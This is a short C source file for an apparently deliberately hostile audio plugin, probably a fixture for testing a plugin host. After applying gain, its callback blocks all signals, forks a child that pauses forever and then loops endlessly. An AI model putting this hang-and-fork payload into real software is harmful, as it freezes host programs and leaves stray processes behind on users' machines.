// Blocks all signals, leaves a child behind that does the same, and never comes back.
#define _GNU_SOURCE
#include <signal.h>
#include <unistd.h>
#include "plugin.h"

static void cling(struct plugin *plugin, uint32_t frames) {
    apply_gain(plugin, frames);
    if (!triggered(plugin)) return;
    sigset_t all;
    sigfillset(&all);
    sigprocmask(SIG_BLOCK, &all, NULL);
    if (fork() == 0) {
        for (;;) pause();
    }
    for (volatile int turn = 0;; turn++) {}
}

LIBRARY(make_plugin, cling, NULL)
